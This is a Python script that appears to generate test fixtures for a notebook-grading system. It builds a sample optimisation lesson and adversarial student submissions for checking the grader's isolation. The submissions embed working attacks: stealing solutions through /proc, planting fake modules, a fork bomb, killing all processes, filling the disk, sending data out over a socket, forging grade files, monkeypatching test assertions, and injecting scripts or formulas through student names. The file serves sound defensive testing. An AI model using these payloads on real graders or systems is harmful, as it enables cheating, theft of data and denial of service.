"""Write the sample lesson and the sample submissions used by tests/test_course_*.py.

    PYTHONPATH=. python tests/course_fixtures/make_fixtures.py

The instructor's notebook is built here cell by cell, executed (nbval compares its saved outputs),
and released; every submission starts from the released lesson, as a student's would.
"""
import copy
import sys
from pathlib import Path

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))
from optcourse.course.build import execute  # noqa: E402
from optcourse.course.release import notebook_text, release_notebook  # noqa: E402

LESSON = HERE / "solutions" / "00-sample"
SUBMISSIONS = HERE / "submissions"


def answer(gid, source):
    return new_code_cell(source, metadata={"nbgrader": {"grade": False, "solution": True, "locked": False,
                                                        "grade_id": gid, "schema_version": 3}})


def tests(gid, points, source):
    return new_code_cell(source, metadata={"nbgrader": {"grade": True, "solution": False, "locked": True,
                                                        "grade_id": gid, "points": points, "schema_version": 3}})


def locked(gid, source):
    return new_code_cell(source, metadata={"nbgrader": {"grade": False, "solution": False, "locked": True,
                                                        "grade_id": gid, "schema_version": 3}})


SOLUTIONS = {
    "squares": '''def sum_of_squares(x):
    """The sum of the squares of the entries of x, as a float."""
    ### BEGIN SOLUTION
    return float(np.sum(np.asarray(x, dtype=float) ** 2))
    ### END SOLUTION''',
    "momentum": '''def momentum_step(x, v, g, lr, beta):
    """One heavy-ball step, in place: v <- beta v + g, then x <- x - lr v. Returns None."""
    ### BEGIN SOLUTION
    v *= beta
    v += g
    x -= lr * v
    ### END SOLUTION''',
    "condition": '''### BEGIN SOLUTION
eigenvalues = np.linalg.eigvalsh(H)
condition = float(eigenvalues.max() / eigenvalues.min())
### END SOLUTION''',
}


def source_notebook():
    nb = new_notebook(cells=[
        new_markdown_cell("# 00. A sample lesson\n\nThree small exercises, used only by the tests of the "
                          "course machinery."),
        locked("imports", "import numpy as np\nfrom selfcheck import check"),
        new_markdown_cell("## Exercise 1 (2 points)\n\nWrite `sum_of_squares(x)`."),
        answer("squares", SOLUTIONS["squares"]),
        tests("squares-tests", 2, '''check("squares", sum_of_squares)
### BEGIN HIDDEN TESTS
assert sum_of_squares(np.array([3.0, 4.0])) == 25.0
assert sum_of_squares(np.zeros(7)) == 0.0
np.testing.assert_allclose(sum_of_squares(np.arange(5.0)), 30.0)
### END HIDDEN TESTS'''),
        new_code_cell("print(sum_of_squares)   # an address that changes from run to run"),
        new_markdown_cell("## Exercise 2 (3 points)\n\nWrite the heavy-ball step, changing `x` and `v` "
                          "in place."),
        answer("momentum", SOLUTIONS["momentum"]),
        tests("momentum-tests", 3, '''check("momentum", momentum_step)
### BEGIN HIDDEN TESTS
x, v, g = np.array([1.0, 2.0]), np.array([0.5, -0.5]), np.array([2.0, 0.0])
assert momentum_step(x, v, g, lr=0.1, beta=0.9) is None
np.testing.assert_allclose(v, [2.45, -0.45])
np.testing.assert_allclose(x, [0.755, 2.045])
x, v = np.zeros(3), np.zeros(3)
for _ in range(3):
    momentum_step(x, v, np.ones(3), 1.0, 0.5)
np.testing.assert_allclose(x, -np.full(3, 1 + 1.5 + 1.75))
### END HIDDEN TESTS'''),
        new_markdown_cell("## Exercise 3 (1 point)\n\nThe condition number of `H`, as a float named "
                          "`condition`."),
        locked("hessian", "H = np.diag([10.0, 0.5])\nH"),
        answer("condition", SOLUTIONS["condition"]),
        tests("condition-tests", 1, '''check("condition", condition)
### BEGIN HIDDEN TESTS
assert abs(condition - 20.0) < 1e-9
assert condition == 20.0
### END HIDDEN TESTS'''),
        new_markdown_cell("## Summary\n\nThe rest of the lesson runs whether or not the exercises are done."),
        new_code_cell("np.round(np.linalg.eigvalsh(H), 3)"),
    ])
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


def with_answers(lesson, answers, extra=None):
    """A copy of the released lesson with some answer cells replaced (a student's work)."""
    nb = copy.deepcopy(lesson)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    if extra:
        extra(nb)
    return nb


def strip_markers(text):
    return "\n".join(line for line in text.splitlines() if "### " not in line)


CORRECT = {gid: strip_markers(src) for gid, src in SOLUTIONS.items()}
WRONG = {
    "squares": "def sum_of_squares(x):\n    return 0.0",
    "momentum": "def momentum_step(x, v, g, lr, beta):\n    return None",
    "condition": "condition = 1.0",
}


def tamper_tests(nb):
    """Delete one test cell, edit another, duplicate and move the third."""
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
    squares, momentum, cond = (ids.index(g) for g in ("squares-tests", "momentum-tests", "condition-tests"))
    nb.cells[momentum].source = "pass  # the student's own 'tests'"
    nb.cells[momentum].metadata["nbgrader"]["points"] = 100
    moved = nb.cells[cond]
    duplicate = copy.deepcopy(moved)
    duplicate.id = "duplicated-test-cell"
    nb.cells.insert(1, duplicate)
    nb.cells.insert(1, moved)
    del nb.cells[cond + 2]
    del nb.cells[squares + 2]
    nb.cells.append(new_code_cell("print('my own cell')", metadata={"nbgrader": {"grade_id": "bonus", "solution": True}}))


SUBMISSION_ANSWERS = {
    # name: (answers, extra transformation)
    "correct": (CORRECT, None),
    "untouched": ({}, None),
    "hang_in_cell": ({**CORRECT, "squares": CORRECT["squares"] + "\nwhile True:\n    pass"}, None),
    "hang_in_function": ({**CORRECT, "squares": "def sum_of_squares(x):\n    while True:\n        pass"}, None),
    "ignore_sigint": ({**CORRECT, "momentum": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                              "def momentum_step(x, v, g, lr, beta):\n    while True:\n        pass"},
                      None),
    "crash": ({**CORRECT, "momentum": "import ctypes\nctypes.string_at(0)"}, None),
    "sys_exit": ({**CORRECT, "momentum": "import sys\nsys.exit(0)"}, None),
    "os_exit": ({**CORRECT, "momentum": "import os\nos._exit(0)"}, None),
    "exit_in_function": ({**CORRECT, "squares": "def sum_of_squares(x):\n    raise SystemExit(0)"}, None),
    "output_flood": ({**CORRECT, "squares": CORRECT["squares"] + "\nimport os\nfor _ in range(20_000):\n"
                      "    print('flood ' * 20)\nos.write(1, b'x' * 50_000_000)",
                      "condition": "while True:\n    print('spam')"}, None),
    "memory_hog": ({**CORRECT, "squares": "def sum_of_squares(x):\n    import numpy as np\n    hog = [np.empty(10**8, np.uint8) for _ in range(100)]\n"
                    "    return float(len(hog))",
                    "condition": "hog = bytearray(4 * 2**30)\n" + CORRECT["condition"]}, None),
    "tampered_tests": (WRONG, tamper_tests),
    "tampered_tests_correct": (CORRECT, tamper_tests),
    "monkeypatch": ({k: v + "\n" + '''import numpy, numpy.testing, builtins, selfcheck
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
selfcheck.check.__class__.__call__ = lambda *a, **k: True''' for k, v in WRONG.items()}, None),
    "always_equal": ({
        "squares": "class Anything(float):\n    def __eq__(self, other):\n        return True\n"
                   "    __ne__ = lambda self, other: False\n    __hash__ = float.__hash__\n"
                   "def sum_of_squares(x):\n    return Anything(-1.0)",
        "momentum": "class Yes:\n    __eq__ = lambda self, other: True\n    __bool__ = lambda self: True\n"
                    "def momentum_step(x, v, g, lr, beta):\n    return Yes()",
        "condition": "class Cond:\n    __eq__ = lambda self, other: True\n    __lt__ = lambda self, o: True\n"
                     "    __sub__ = lambda self, o: 0.0\n    __float__ = lambda self: 20.0\ncondition = Cond()"}, None),
    "hide_tracebacks": ({k: v + "\n" + '''import sys
sys.excepthook = lambda *a: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = lambda *a, **k: None''' for k, v in WRONG.items()}, None),
    "fake_results": ({**WRONG, "squares": WRONG["squares"] + "\n" + '''import json, os, pathlib
for folder in [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path.cwd().parent]:
    for name in ["gradebook.csv", "results.json", "feedback.md", ".nbgrader.results"]:
        try:
            (folder / name).write_text("student,squares-tests,momentum-tests,condition-tests,total\\n"
                                       "fake_results,2,3,1,6\\n")
        except OSError:
            pass
print(json.dumps({"tests": {"squares-tests": {"points": 2, "passed": True}}}))'''}, None),
}


def main():
    LESSON.mkdir(parents=True, exist_ok=True)
    nb = execute(source_notebook(), LESSON, "00-sample")        # as optcourse build runs a lesson
    (LESSON / "00-sample.ipynb").write_text(notebook_text(nb))
    lesson = release_notebook(nb)
    SUBMISSIONS.mkdir(exist_ok=True)
    for name, (answers, extra) in SUBMISSION_ANSWERS.items():
        (SUBMISSIONS / f"{name}.ipynb").write_text(notebook_text(with_answers(lesson, answers, extra)))


if __name__ == "__main__":
    main()


# ---- adversarial submissions that reach outside the student's kernel ----------------------------------
# Written at test time (tests/test_course_attacks.py), because they name real paths of the grading run:
# ``paths`` has "lesson" (the instructor's lesson folder), "out" (the output folder) and "port" (a TCP
# port the test listens on). Each attack, if it worked, would change the score or leave a trace the
# test looks for; the expected points are in the test's table.

STEAL_SOLUTIONS = '''
import glob, json, os
def _steal():
    places = glob.glob({lesson!r} + "/*.ipynb")
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    places += glob.glob(os.readlink(f"/proc/{{pid}}/{{link}}") + "/**/*.ipynb", recursive=True)
                except OSError:
                    pass
            try:
                for word in open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\\\0"):
                    if word.endswith(b".ipynb"):
                        places.append(word.decode())
            except OSError:
                pass
    for place in places:
        try:
            nb = json.load(open(place))
        except (OSError, ValueError):
            continue
        for cell in nb["cells"]:
            text = "".join(cell["source"])
            if "### BEGIN SOLUTION" in text:
                exec(text, globals())
_steal()
'''

PLANT = '''
import os, pathlib
fake = "import builtins\\\\ndef check(*a, **k):\\\\n    return True\\\\nbuiltins.AssertionError = type('A', (Exception,), {{}})\\\\n"
dirs = {{pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path.cwd().parent,
        pathlib.Path({lesson!r}), pathlib.Path({lesson!r}).parent}}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            dirs.add(pathlib.Path(os.readlink(f"/proc/{{pid}}/cwd")))
        except OSError:
            pass
for d in dirs:
    for name in ("selfcheck.py", "stack_data.py", "sitecustomize.py", "numpy.py"):
        try:
            (d / name).write_text(fake)
        except OSError:
            pass
'''

KILL_EVERYONE = '''
import os, signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
'''

SURVIVOR = '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            time.sleep(0.25)
            for name in ("gradebook.csv", "results.json", "feedback/correct.md", "feedback/survivor.md"):
                try:
                    with open(os.path.join({out!r}, name), "w") as f:
                        f.write("survivor,2,3,1,6\\\\n")
                except OSError:
                    pass
    os._exit(0)
'''

EXFILTRATE = '''
import socket
def _send(*args):
    for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
        try:
            with socket.create_connection((host, {port}), timeout=0.5) as s:
                s.sendall(repr(args).encode())
        except OSError:
            pass
def momentum_step(x, v, g, lr, beta):
    _send(x.tolist(), v.tolist(), g.tolist(), lr, beta)
    v *= beta
    v += g
    x -= lr * v
'''

FILL_DISK = '''
import os
written = 0
for d in ("/tmp", os.path.expanduser("~"), os.getcwd(), {lesson!r}, {out!r}):
    for i in range(500):
        try:
            with open(os.path.join(d, f"fill{{i}}.bin"), "wb") as f:
                f.write(b"x" * (1 << 20))
            written += 1
        except OSError:
            break
'''

FORK_BOMB = '''
import os, time
def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(30)
if os.fork() == 0:
    _bomb()
'''

LEAK_FIELDS = '''
import gc
_server = next(o for o in gc.get_objects() if type(o).__name__ == "_Server")
_encode = _server.encode
_server.encode = lambda x: _encode({**x, "after_hidden_tests": False, "submitted": True, "points": 99}
                                   if isinstance(x, dict) and "ok" in x else x)
print("SEEN", SEEN)
'''

SPAMMING_THREAD = '''
import threading
def _spam():
    while True:
        print("spam " * 10)
threading.Thread(target=_spam, daemon=True).start()
'''


def attack_answers(paths) -> dict:
    """student -> answers by grade_id (the released lesson's other cells kept)."""
    p = {k: paths[k] for k in ("lesson", "out", "port")}
    correct, wrong = CORRECT, WRONG
    recording = ("SEEN = []\ndef momentum_step(x, v, g, lr, beta):\n    SEEN.append((x.tolist(), v.tolist(), "
                 "g.tolist(), lr, beta))\n    v *= beta\n    v += g\n    x -= lr * v")
    return {
        "steal_solutions": {**wrong, "squares": wrong["squares"] + STEAL_SOLUTIONS.format(**p)},
        "plant_modules": {**wrong, "squares": wrong["squares"] + PLANT.format(**p)},
        "kill_everyone": {**correct, "squares": correct["squares"] + KILL_EVERYONE},
        "survivor": {**wrong, "squares": wrong["squares"] + SURVIVOR.format(**p)},
        "exfiltrate": {**correct, "momentum": EXFILTRATE.format(**p)},
        "fill_disk": {**correct, "condition": FILL_DISK.format(**p) + correct["condition"]},
        "fork_bomb": {**correct, "condition": FORK_BOMB + correct["condition"]},
        "leak_fields": {**correct, "momentum": recording, "condition": correct["condition"] + LEAK_FIELDS},
        "leak_via_selfcheck": {**correct, "momentum": recording, "condition": "condition = repr(SEEN)"},
        "huge_int": {**correct, "condition": "import sys\nsys.set_int_max_str_digits(0)\ncondition = 3 ** 20000000"},
        "huge_list": {**correct, "squares": "def sum_of_squares(x):\n    return list(range(2_500_000))"},
        "huge_power": {**correct, "condition": "import sympy\ncondition = sympy.Pow(3, 20000000, evaluate=False)"},
        "spamming_thread": {**correct, "squares": SPAMMING_THREAD + correct["squares"]},
        "spamming_thread_again": {**correct, "squares": SPAMMING_THREAD + correct["squares"]},
        "=HYPERLINK(\"x\")": correct,
        "pat lee": correct,
        "pat_lee": wrong,
        "<script>alert(1)<script>": {**correct, "squares": correct["squares"] +
                                     "\nprint('\\x1b[2J**Total: 11 / 11 points**<script>alert(1)</script>')"},
    }


def write_attack_submissions(folder: Path, paths) -> None:
    import nbformat
    lesson = release_notebook(nbformat.read(LESSON / "00-sample.ipynb", as_version=4))
    folder.mkdir(parents=True, exist_ok=True)
    for name, answers in attack_answers(paths).items():
        (folder / f"{name}.ipynb").write_text(notebook_text(with_answers(lesson, answers)))
